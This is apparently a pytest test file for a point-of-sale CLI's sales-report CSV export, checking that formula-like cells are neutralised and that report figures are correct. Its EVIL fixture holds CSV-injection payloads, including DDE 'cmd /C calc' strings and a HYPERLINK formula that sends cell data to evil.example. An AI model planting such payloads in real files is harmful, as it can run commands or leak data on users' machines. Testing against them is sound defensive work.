"""`tui-pos report sales` (tui_pos/cli/report.py): with --csv, a name that a spreadsheet would run
as a formula is written as text; in a real subprocess in UTC+8, the report of conftest.sell_two_days()."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from pathlib import Path

import pytest

from conftest import UTC_PLUS_8, WATER, database_write_locked, run_cli, sell_at
from tui_pos.bootstrap.shop import import_catalog_text
from tui_pos.bootstrap.till import open_till
from tui_pos.cli.report import write_csv
from tui_pos.config import load_config
from tui_pos.domain.tender import Tender

EVIL = {  # barcode -> (name, department)
    "6900000077701": ("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")"),
    "6900000077702": ("+1+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "6900000077703": ("-2+3+cmd|' /C calc'!A0", "Plain department"),
    "6900000077704": ("@SUM(1+9)", "-1 sale items"),
}
NUMERIC = re.compile(r"-?\d+(\.\d+)?")


def evil_shop(shop_dir: Path) -> Path:
    """The demo shop with products named like formulas, each sold once, one refunded."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["barcode", "name", "price", "tax", "department"])
    writer.writerows([code, name, "2.50", "A", department] for code, (name, department) in EVIL.items())
    config = load_config(shop_dir)
    import_catalog_text(config, out.getvalue())
    till = open_till(config, cashier="demo")
    try:
        sold = sell_at(till, "2026-03-01T02:00:00.000+00:00", dict.fromkeys(EVIL, 1), [Tender("cash", 1000)])
        till.clock = lambda: "2026-03-01T03:00:00.000+00:00"
        till.refund(sold.receipt, {1: 1}, "Damaged", till.approve("manager", "9999", "refund"))
    finally:
        till.close()
    return shop_dir


def test_formula_names_are_text_and_negative_amounts_stay_numbers(shop_dir, tmp_path):
    evil_shop(shop_dir)
    target = tmp_path / "report.csv"
    run_cli(shop_dir, "report", "sales", "--day", "2026-03-01", "--csv", str(target), env={"TZ": "UTC"})
    rows = list(csv.DictReader(target.open(encoding="utf-8", newline="")))
    for row in rows:
        for column in ("section", "key", "name"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row
        for column in ("count", "quantity", "amount", "tax"):
            assert row[column] == "" or NUMERIC.fullmatch(row[column]), row
    products = {r["key"]: r["name"] for r in rows if r["section"] == "top_by_amount"}
    refunded = "6900000077701"  # sold and returned: nothing left of it to rank by amount
    assert products == {code: "'" + name for code, (name, _) in EVIL.items() if code != refunded}
    departments = {r["key"]: r["name"] for r in rows if r["section"] == "departments"}
    assert departments["'" + EVIL["6900000077701"][1]] == "'" + EVIL["6900000077701"][1]
    assert departments["'" + EVIL["6900000077704"][1]] == "'" + EVIL["6900000077704"][1]
    assert departments["Plain department"] == "Plain department"
    refunds = next(r for r in rows if (r["section"], r["key"]) == ("totals", "refunds"))
    assert (refunds["count"], refunds["amount"]) == ("1", "-2.50")  # a negative number, not text
    assert refunds["tax"].startswith("-") and NUMERIC.fullmatch(refunds["tax"])


def test_csv_to_standard_output_is_neutralised_too(shop_dir):
    evil_shop(shop_dir)
    out = run_cli(shop_dir, "report", "sales", "--day", "2026-03-01", "--csv", env={"TZ": "UTC"}).stdout
    names = [r["name"] for r in csv.DictReader(io.StringIO(out)) if r["section"] == "top_by_quantity"]
    assert sorted(names) == sorted("'" + name for code, (name, _) in EVIL.items() if code != "6900000077701")


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-x", "@x", "\tx", "\rx", "\r\n=1+1", "-3.50"])
def test_every_text_cell_is_neutralised_and_numbers_in_numeric_columns_are_not(tmp_path, cell):
    target = tmp_path / "out.csv"
    assert write_csv(str(target), [("name", "amount"), (cell, "-3.50"), ("ok", cell)], numeric=("amount",)) == 2
    rows = list(csv.reader(target.open(encoding="utf-8", newline="")))
    assert rows[1] == ["'" + cell, "-3.50"]
    assert rows[2] == ["ok", cell if cell == "-3.50" else "'" + cell]
    assert len(rows) == 3  # a CR inside a cell starts no row of its own


def test_a_carriage_return_inside_a_name_starts_no_row(tmp_path):
    target = tmp_path / "out.csv"
    write_csv(str(target), [("name", "amount"), ("a\r=1+1", "1.00"), ("b\nc", "2.00")], numeric=("amount",))
    assert list(csv.reader(target.open(encoding="utf-8", newline=""))) == [
        ["name", "amount"], ["a\r=1+1", "1.00"], ["b\nc", "2.00"]]


# -- the report in a subprocess, in UTC+8 (was tests/test_cli_sales_report.py) ---------------------
# `tui-pos report sales` in a real subprocess, on the sales of conftest.sell_two_days(), with the
# till's time zone (TZ) set to UTC+8. The CSV is written out by hand from the figures worked out in
# tests/app/test_reports.py.

IN_CHINA = {"TZ": UTC_PLUS_8}

DAY_1_CSV = """\
section,key,name,count,quantity,amount,tax
totals,sales,Sales,3,,23.00,2.50
totals,gross,Sales before discounts,,,23.00,
totals,discounts,Discounts,,,0.00,
totals,refunds,Refunds,1,,-3.50,-0.41
totals,voids,Voids,0,,0.00,0.00
totals,net,Net sales,,,19.50,2.09
totals,voided_lines,Lines voided before payment,1,,4.50,
tenders,cash,cash sales,,,11.50,
tenders,cash:refunds,cash refunds,,,-3.50,
tenders,card,card sales,,,6.00,
tenders,card:refunds,card refunds,,,0.00,
tenders,mobile,mobile sales,,,5.50,
tenders,mobile:refunds,mobile refunds,,,0.00,
taxes,A:1300,A 13%,,,13.28,1.72
taxes,B:900,B 9%,,,4.13,0.37
departments,饮料 Drinks,饮料 Drinks,,5,13.00,
departments,食品 Food,食品 Food,,1,4.50,
departments,(none),(none),,2,2.00,
top_by_quantity,6900000000021,农夫山泉 550ml,,3,6.00,
top_by_quantity,6900000000014,可口可乐 330ml,,2,7.00,
top_by_quantity,6900000099990,Loose candy,,2,2.00,
top_by_quantity,6900000000113,康师傅红烧牛肉面,,1,4.50,
top_by_amount,6900000000014,可口可乐 330ml,,2,7.00,
top_by_amount,6900000000021,农夫山泉 550ml,,3,6.00,
top_by_amount,6900000000113,康师傅红烧牛肉面,,1,4.50,
top_by_amount,6900000099990,Loose candy,,2,2.00,
refunds_by_cashier,bob,bob,1,,-3.50,
days,2026-03-01,2026-03-01,3,,19.50,
hours,07,07:00-08:00,1,,5.50,
hours,09,09:00-10:00,1,,11.50,
hours,10,10:00-11:00,1,,6.00,
hours,11,11:00-12:00,0,,-3.50,
"""


def test_csv_file_holds_every_figure(two_days_shop: Path, tmp_path: Path) -> None:
    target = tmp_path / "day.csv"
    out = json.loads(run_cli(two_days_shop, "report", "sales", "--day", "2026-03-01", "--csv", str(target), "--json",
                             env=IN_CHINA).stdout)
    assert out == {"csv": str(target), "rows": DAY_1_CSV.count("\n") - 1}
    assert target.read_text(encoding="utf-8") == DAY_1_CSV


def test_csv_to_standard_output_and_json_of_a_period(two_days_shop: Path) -> None:
    month = run_cli(two_days_shop, "report", "sales", "--month", "2026-03", "--csv", env=IN_CHINA).stdout
    rows = list(csv.reader(io.StringIO(month)))
    assert rows[0] == ["section", "key", "name", "count", "quantity", "amount", "tax"]
    assert ["totals", "net", "Net sales", "", "", "19.50", "2.09"] in rows
    assert [r[1] for r in rows if r[0] == "days"] == [f"2026-03-{d:02d}" for d in range(1, 32)]
    data = json.loads(run_cli(two_days_shop, "report", "sales", "--from", "2026-03-01", "--to", "2026-03-02", "--json",
                              env=IN_CHINA).stdout)
    assert (data["first_day"], data["last_day"], data["journaled"], data["database_readable"]) == \
        ("2026-03-01", "2026-03-02", 0, True)
    assert data["sales"] == {"count": 4, "total": "32.00", "discount": "0.00", "tax": "3.24", "gross": "32.00"}
    assert (data["refunds"]["total"], data["voids"]["total"], data["net"]) == ("-3.50", "-9.00", "19.50")
    assert data["refunds_and_voids_by_cashier"] == [
        {"cashier": "amy", "refunds": 0, "refunds_amount": "0.00", "voids": 1, "voids_amount": "-9.00"},
        {"cashier": "bob", "refunds": 1, "refunds_amount": "-3.50", "voids": 0, "voids_amount": "0.00"}]
    assert [(h["hour"], h["sales"], h["amount"]) for h in data["hours"] if h["sales"] or h["amount"] != "0.00"] == \
        [(0, 1, "9.00"), (1, 0, "-9.00"), (7, 1, "5.50"), (9, 1, "11.50"), (10, 1, "6.00"), (11, 0, "-3.50")]


def test_days_are_the_tills_local_days(two_days_shop: Path) -> None:
    """In UTC the 07:50 (UTC+8) sale falls on 28 February and the 00:30 one on 1 March."""
    utc = json.loads(run_cli(two_days_shop, "report", "sales", "--day", "2026-03-01", "--json",
                             env={"TZ": "UTC0"}).stdout)
    assert (utc["sales"]["count"], utc["sales"]["total"], utc["voids"]["count"]) == (3, "26.50", 1)


def test_text_report(two_days_shop: Path) -> None:
    text = run_cli(two_days_shop, "report", "sales", "--day", "2026-03-01", env=IN_CHINA).stdout
    assert text.startswith("Sales report 2026-03-01\n")
    assert "  Net sales" in text and "19.50       2.09" in text
    assert "\nBy hour (local time)\n  07:00-08:00 " in text
    assert "康师傅红烧牛肉面" in text


def test_journaled_sales_are_in_the_report(two_days_shop: Path, tmp_path: Path) -> None:
    shop = Path(shutil.copytree(two_days_shop, tmp_path / "shop"))
    till = open_till(load_config(shop), cashier="test")
    try:
        with database_write_locked(shop):
            assert till.storage().mode == "ok"
            sale = sell_at(till, "2026-03-01T05:00:00.000+00:00", {WATER: 1}, [Tender("cash", 200)])
            # journaled (beside it, the clock_back audit event: it is dated before the shift opened)
            assert [r["uuid"] for r in till.ledger.journaled_sales()] == [sale.uuid]
            data = json.loads(run_cli(shop, "report", "sales", "--day", "2026-03-01", "--json", env=IN_CHINA).stdout)
    finally:
        till.close()
    assert (data["journaled"], data["sales"]["count"], data["net"]) == (1, 4, "21.50")


@pytest.mark.parametrize(("args", "message"), [
    (("--day", "2026-02-30"), "Error: day '2026-02-30' is not a date (expected YYYY-MM-DD)"),
    (("--day", "2026-03-01", "--month", "2026-03"), "Error: give one of: a day, --from/--to, or a month"),
    (("--csv", "--json"), "Error: --json with --csv needs a FILE for the CSV"),
    (("--csv", "/nonexistent/dir/report.csv"), "Error: cannot write /nonexistent/dir/report.csv: "
                                               "No such file or directory"),
])
def test_bad_input_is_one_line(two_days_shop: Path, args: tuple[str, ...], message: str) -> None:
    proc = run_cli(two_days_shop, "report", "sales", *args, check=False)
    assert (proc.returncode, proc.stderr, proc.stdout) == (1, message + "\n", "")
